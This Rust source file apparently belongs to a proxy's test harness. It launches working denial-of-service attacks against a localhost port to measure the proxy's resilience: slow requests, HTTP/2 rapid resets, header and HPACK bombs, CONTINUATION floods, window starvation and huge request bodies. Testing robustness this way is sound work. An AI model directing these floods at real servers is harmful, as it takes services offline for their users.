//! Those who would keep a proxy from its other clients: thousands who are slow, requests that are taken back, heads without
//! end, answers that nobody takes, and bodies for a server that reads nothing.
//!
//! All of a kind run in one thread that has a processor only while nobody else wants it (`SCHED_IDLE`), so that who measures
//! beside them is disturbed by what they make the proxy do, not by what they do themselves. Whoever is thrown out comes back.

use std::{
    io,
    net::{Ipv4Addr, SocketAddr},
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicU64, AtomicUsize, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpSocket, TcpStream},
    sync::oneshot,
    task::JoinSet,
    time,
};

use super::server::STALLED;
use crate::{netns::Netns, process, wait};

/// What they do.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Abuse {
    /// Begin a request or a connection of HTTP/2 and go on with a byte now and then.
    Slow,
    /// Take requests of HTTP/2 back at once and without a pause, until the connection is ended for it.
    Resets,
    /// Send heads that are too large: long ones, ones that unfold (RFC 7541), ones without end (CONTINUATION).
    Bombs,
    /// Ask for more than fits through their windows, which they open by a byte each.
    Windows,
    /// Open the windows of answers by little, without a pause.
    Sips,
    /// Send 1 GB to a server that reads nothing.
    Bodies,
}

/// Time until all of them have begun.
const PATIENCE: Duration = Duration::from_secs(60);

/// Between two bytes of those who are slow.
const SLOWLY: Duration = Duration::from_secs(2);

/// Between two looks of those who open their windows.
const WINDOW: Duration = Duration::from_millis(100);

/// Requests that are taken back with one write.
const TAKEN_BACK: u32 = 25;

/// Answers that each of those waits for who open their windows by little, and bytes of one.
const ANSWERS: u32 = 100;
const LARGE: u32 = 64 << 10;

/// What the kernel keeps of what they send and the proxy does not take. The kernel would let it grow to megabytes, and who fills
/// and empties those takes the clients' processor from clients, whatever the proxy does.
const BUFFER: u32 = 16 << 10;

/// HTTP/2's preface (RFC 9113 §3.4) and settings that change nothing.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// The same with windows of nothing (SETTINGS_INITIAL_WINDOW_SIZE).
const CLOSED: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0";

/// Types and flags of frames (RFC 9113 §6).
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

impl Abuse {
    /// All of them.
    pub const ALL: [Self; 6] =
        [Self::Slow, Self::Resets, Self::Bombs, Self::Windows, Self::Sips, Self::Bodies];

    /// Connections at a time.
    fn connections(self) -> usize {
        match self {
            Self::Slow => 2_000,
            Self::Resets | Self::Bombs | Self::Windows | Self::Sips | Self::Bodies => 20,
        }
    }

    /// Deeds after which it has begun. Two thousand answers that are asked for at once are a load like any other: abuse is
    /// that nobody takes them.
    fn beginning(self) -> u64 {
        match self {
            Self::Windows | Self::Sips => 5 * u64::from(ANSWERS) * self.connections() as u64,
            Self::Slow | Self::Resets | Self::Bombs | Self::Bodies => 0,
        }
    }
}

/// Abuse that goes on until this is dropped.
pub struct Attack {
    deeds: Arc<AtomicU64>,
    /// Dropped to end it.
    end: Option<oneshot::Sender<()>>,
    thread: Option<JoinHandle<()>>,
}

/// What the connections of an attack have in common.
struct Common {
    target: SocketAddr,
    /// Bytes, requests or heads that were sent.
    deeds: Arc<AtomicU64>,
    /// Connections that were made for the first time.
    begun: AtomicUsize,
}

impl Attack {
    /// Begins it from a namespace against a port of 127.0.0.1, and waits until all have begun.
    ///
    /// # Panics
    /// When they cannot.
    #[must_use]
    pub fn start(ns: &Netns, abuse: Abuse, port: u16) -> Self {
        let (end, ended) = oneshot::channel::<()>();
        let deeds = Arc::<AtomicU64>::default();
        let target = (Ipv4Addr::LOCALHOST, port).into();
        let common = Arc::new(Common { target, deeds: Arc::clone(&deeds), begun: AtomicUsize::new(0) });
        let shared = Arc::clone(&common);
        let thread = ns.spawn(move || {
            step_back();
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build();
            runtime.expect("an event loop").block_on(async {
                let mut all = JoinSet::new();
                for number in 0..abuse.connections() {
                    all.spawn(again_and_again(abuse, number, Arc::clone(&shared)));
                }
                let _ = ended.await;
            });
        });
        wait::until(PATIENCE, &format!("{abuse:?} to begin"), || {
            let begun = common.begun.load(Ordering::Relaxed);
            let deeds = common.deeds.load(Ordering::Relaxed);
            let has_begun = begun >= abuse.connections() && deeds >= abuse.beginning();
            if has_begun { Ok(()) } else { Err(format!("{begun} connections, {deeds} deeds")) }
        });
        Self { deeds, end: Some(end), thread: Some(thread) }
    }

    /// What was done so far.
    #[must_use]
    pub fn deeds(&self) -> u64 {
        self.deeds.load(Ordering::Relaxed)
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        drop(self.end.take());
        let _ = self.thread.take().map(JoinHandle::join);
    }
}

/// Has the calling thread wait for everybody else.
fn step_back() {
    let thread = rustix::thread::gettid().to_string();
    let mut command = Command::new("chrt");
    let output = process::output("chrt", command.args(["--idle", "--pid", "0", &thread]), PATIENCE);
    assert!(output.status.success(), "chrt: {}", String::from_utf8_lossy(&output.stderr));
}

/// Does it over one connection after the other.
async fn again_and_again(abuse: Abuse, number: usize, common: Arc<Common>) {
    let mut first = true;
    loop {
        let Ok(mut stream) = connect(number, common.target).await else {
            time::sleep(WINDOW).await;
            continue;
        };
        if std::mem::take(&mut first) {
            common.begun.fetch_add(1, Ordering::Relaxed);
        }
        let (input, mut output) = stream.split();
        let doing = async {
            match abuse {
                Abuse::Slow => slow(number, &mut output, &common).await,
                Abuse::Resets => resets(&mut output, &common).await,
                Abuse::Bombs => bomb(number, &mut output, &common).await,
                Abuse::Windows => windows(&mut output, &common).await,
                Abuse::Sips => sips(number, &mut output, &common).await,
                Abuse::Bodies => body(&mut output, &common).await,
            }
        };
        // It ends when the proxy wants no more of it.
        tokio::select! {
            _ = doing => {}
            () = discard(input) => {}
        }
    }
}

/// Connects from an address of loopback that some others have too.
async fn connect(number: usize, target: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_send_buffer_size(BUFFER)?;
    let own = Ipv4Addr::new(127, 0, 2, u8::try_from(number % 20).unwrap_or_default() + 1);
    socket.bind((own, 0).into())?;
    let stream = socket.connect(target).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Reads until there is no more.
async fn discard(mut input: impl AsyncRead + Unpin) {
    let mut piece = vec![0; 16 << 10];
    while input.read(&mut piece).await.is_ok_and(|read| read > 0) {}
}

type Output<'a> = tokio::net::tcp::WriteHalf<'a>;

async fn slow(number: usize, output: &mut Output<'_>, common: &Common) -> io::Result<()> {
    let head = format!("POST {STALLED} HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n");
    let begin: &[u8] = match number % 4 {
        0 => b"GET /app/1k HTTP/1.1\r\nHost: a\r\nX-A: ",
        1 => head.as_bytes(),
        2 => &PREFACE[..PREFACE.len() - 5],
        _ => b"G",
    };
    output.write_all(begin).await?;
    loop {
        common.deeds.fetch_add(1, Ordering::Relaxed);
        time::sleep(SLOWLY).await;
        // The head of HTTP/2's first frame ends after five.
        output.write_all(if number % 4 == 2 { b"\0" } else { b"a" }).await?;
    }
}

async fn resets(output: &mut Output<'_>, common: &Common) -> io::Result<()> {
    output.write_all(PREFACE).await?;
    let mut stream = 1_u32;
    loop {
        let mut batch = Vec::new();
        for _ in 0..TAKEN_BACK {
            batch.extend(get(stream, "/app/1k"));
            // CANCEL
            batch.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        output.write_all(&batch).await?;
        common.deeds.fetch_add(u64::from(TAKEN_BACK), Ordering::Relaxed);
        tokio::task::yield_now().await;
    }
}

async fn bomb(number: usize, output: &mut Output<'_>, common: &Common) -> io::Result<()> {
    common.deeds.fetch_add(1, Ordering::Relaxed);
    match number % 3 {
        0 => {
            output.write_all(b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ").await?;
            output.write_all(&[b'a'; 100_000]).await?;
        }
        1 => {
            output.write_all(PREFACE).await?;
            // An entry of 3,000 bytes of the dynamic table, named 12,000 times.
            let mut block = b"\x82\x86\x84\x01\x01a\x40\x01b\x7f\xb9\x16".to_vec();
            block.extend([b'x'; 3_000]);
            block.extend([0xbe; 12_000]);
            output.write_all(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &block)).await?;
        }
        _ => {
            output.write_all(PREFACE).await?;
            output.write_all(&frame(HEADERS, END_STREAM, 1, b"\x82\x86\x84\x01\x01a")).await?;
            // A field of a byte and its value of 1,000, again and again.
            let mut field = b"\0\x01b\x7f\xe9\x06".to_vec();
            field.extend([b'x'; 1_000]);
            loop {
                output.write_all(&frame(CONTINUATION, 0, 1, &field)).await?;
            }
        }
    }
    // Until the proxy has said what it has to say.
    std::future::pending().await
}

async fn windows(output: &mut Output<'_>, common: &Common) -> io::Result<()> {
    output.write_all(CLOSED).await?;
    let streams = (0..ANSWERS).map(|number| number * 2 + 1);
    let asked: Vec<u8> = streams.clone().flat_map(|stream| get(stream, "/app/64k")).collect();
    output.write_all(&asked).await?;
    let opened: Vec<u8> =
        streams.flat_map(|stream| frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes())).collect();
    loop {
        time::sleep(WINDOW).await;
        output.write_all(&opened).await?;
        common.deeds.fetch_add(u64::from(ANSWERS), Ordering::Relaxed);
    }
}

async fn sips(number: usize, output: &mut Output<'_>, common: &Common) -> io::Result<()> {
    let sip = [1, 128, 512][number % 3];
    output.write_all(CLOSED).await?;
    let mut first = 1;
    loop {
        let streams = (0..ANSWERS).map(move |number| first + number * 2);
        let asked: Vec<u8> = streams.clone().flat_map(|stream| get(stream, "/app/64k")).collect();
        output.write_all(&asked).await?;
        let mut opened = frame(WINDOW_UPDATE, 0, 0, &(sip * ANSWERS).to_be_bytes());
        opened.extend(streams.flat_map(|stream| frame(WINDOW_UPDATE, 0, stream, &sip.to_be_bytes())));
        for _ in 0..LARGE / sip {
            output.write_all(&opened).await?;
            common.deeds.fetch_add(u64::from(ANSWERS), Ordering::Relaxed);
        }
        first += 2 * ANSWERS;
    }
}

async fn body(output: &mut Output<'_>, common: &Common) -> io::Result<()> {
    let head = format!("POST {STALLED} HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000000\r\n\r\n");
    output.write_all(head.as_bytes()).await?;
    let piece = vec![b'x'; 64 << 10];
    loop {
        output.write_all(&piece).await?;
        common.deeds.fetch_add(piece.len() as u64, Ordering::Relaxed);
    }
}

/// A request of HTTP/2 for `http://a`.
fn get(stream: u32, path: &str) -> Vec<u8> {
    let mut block = b"\x82\x86\x04".to_vec();
    block.push(u8::try_from(path.len()).unwrap_or_default());
    block.extend(path.as_bytes());
    block.extend(b"\x01\x01a");
    frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
}

/// A frame (RFC 9113 §4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
